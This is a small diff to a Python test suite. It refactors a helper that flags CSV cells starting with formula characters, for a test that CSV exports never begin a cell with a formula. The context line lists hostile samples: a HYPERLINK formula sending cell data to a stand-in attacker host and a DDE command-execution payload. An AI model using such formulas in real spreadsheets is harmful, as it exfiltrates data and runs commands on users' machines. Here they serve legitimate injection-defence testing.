@@ -144,8 +144,8 @@ HOSTILE = ['=HYPERLINK("https://evil.example/?x="&A1,"clic")', "+cmd|' /C calc'!
 
 
 def _cells_start_with_a_formula(text: str) -> list[str]:
-    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row if cell[:1] in ("=", "+", "-", "@", "\t",
-                                                                                          "\r")]
+    rows = csv.reader(io.StringIO(text, newline=""))
+    return [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
 
 
 def test_csv_exports_never_start_a_cell_with_a_formula(tmp_path: Path) -> None:
